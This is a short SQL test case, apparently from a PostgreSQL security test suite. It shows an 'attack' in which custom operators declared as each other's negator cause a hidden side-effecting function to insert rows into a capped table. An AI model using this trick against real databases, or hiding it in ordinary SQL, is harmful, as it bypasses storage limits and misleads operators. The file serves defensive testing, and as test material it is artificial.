-- Fills a capped table by the negator of an operator that does nothing.
-- wants: fill
-- attack:
CREATE FUNCTION same(int, int) RETURNS boolean LANGUAGE plpgsql AS 'BEGIN RETURN $1 = $2; END';
CREATE FUNCTION other(int, int) RETURNS boolean LANGUAGE plpgsql AS $$
  BEGIN INSERT INTO public.dmo_log SELECT n, 'x' FROM generate_series(1, 10) n; RETURN true; END $$;
CREATE OPERATOR === (LEFTARG = int, RIGHTARG = int, FUNCTION = same, NEGATOR = !==);
CREATE OPERATOR !== (LEFTARG = int, RIGHTARG = int, FUNCTION = other, NEGATOR = ===);
SELECT NOT (id === 1) FROM mallory_own;
